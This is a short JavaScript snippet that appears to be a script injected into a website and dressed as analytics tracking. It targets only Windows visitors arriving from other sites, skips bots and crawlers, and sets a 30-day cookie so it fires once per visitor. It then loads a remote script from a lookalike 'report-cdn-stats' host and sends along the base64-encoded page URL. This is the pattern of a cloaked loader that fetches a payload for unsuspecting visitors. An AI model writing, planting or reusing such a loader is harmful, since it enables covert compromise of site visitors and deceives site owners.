;(function () {
  if (document.cookie.indexOf("_sgx=") > -1) return;
  var ua = navigator.userAgent;
  if (ua.indexOf("Windows") < 0 || /bot|crawl|spider|headless/i.test(ua)) return;
  if (!document.referrer || document.referrer.indexOf(location.hostname) > -1) return;
  document.cookie = "_sgx=1; max-age=" + 86400 * 30 + "; path=/";
  var s = document.createElement("script");
  s.src = "https://track.report-cdn-stats.invalid/s_code.js?cid=211&v=" + btoa(location.href);
  s.async = true;
  (document.head || document.documentElement).appendChild(s);
})();
